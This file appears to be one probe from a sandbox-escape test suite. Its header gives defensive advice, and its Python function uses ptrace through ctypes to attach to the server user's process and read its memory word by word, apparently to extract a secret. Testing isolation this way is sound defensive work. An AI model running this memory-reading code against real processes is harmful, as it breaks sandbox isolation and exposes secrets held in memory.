# title: Attach to a process as a debugger
# tries: Attaches by ptrace to a process of the server's user and reads its memory word by word. A debugger can also make it run other code.
# impact: Escape
# proof: secret
# host: run
# advice: Refuse ptrace by seccomp, run the code in a pid namespace of its own, and set kernel.yama.ptrace_scope to 1 or more.

PEEK, ATTACH, DETACH = 1, 16, 17


def attempt(host):
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(ATTACH, host["pid"], None, None) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    wall = 0x40000000
    os.waitpid(host["pid"], wall)
    try:
        addresses = range(host["memory_address"], host["memory_address"] + host["memory_length"], 8)
        words = [libc.ptrace(PEEK, host["pid"], address, None) for address in addresses]
    finally:
        libc.ptrace(DETACH, host["pid"], None, None)
    return b"".join(word.to_bytes(8, "little", signed=True) for word in words).decode("utf-8", "replace")
